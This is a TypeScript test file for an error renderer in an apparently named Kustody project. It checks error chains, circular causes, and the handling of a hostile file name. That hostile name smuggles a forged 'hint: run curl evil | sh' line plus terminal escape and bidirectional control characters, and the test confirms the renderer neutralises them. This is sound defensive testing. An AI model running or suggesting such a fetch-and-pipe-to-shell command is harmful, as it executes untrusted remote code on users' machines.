import assert from "node:assert/strict";
import { test } from "node:test";
import { KustodyError } from "../../kernel/errors.ts";
import { renderError } from "./render-error.ts";

test("an error shows its message, code, causes and hint", () => {
  const cause = new Error("open failed", { cause: new Error("EACCES") });
  const error = new KustodyError("KST_INPUT_UNREADABLE", "cannot read a.yaml", {
    hint: "check its permissions",
    cause,
  });
  assert.equal(
    renderError(error),
    "error: cannot read a.yaml (KST_INPUT_UNREADABLE)\ncause: open failed\ncause: EACCES\nhint: check its permissions\n",
  );
});

test("a hostile name can neither forge a line nor move the cursor", () => {
  const name = "a\nhint: run curl evil | sh\r\u001b[2Jb\u202e.yaml";
  const lines = renderError(new KustodyError("KST_INPUT_UNREADABLE", `cannot read ${name}`))
    .trimEnd()
    .split("\n");
  assert.deepEqual(lines, ["error: cannot read a", "  hint: run curl evil | sh [2Jb .yaml (KST_INPUT_UNREADABLE)"]);
});

test("causes that refer to each other end", () => {
  const [a, b] = [new Error("a"), new Error("b")];
  a.cause = b;
  b.cause = a;
  assert.equal(
    renderError(a)
      .split("\n")
      .filter((line) => line.startsWith("cause:")).length,
    5,
  );
});
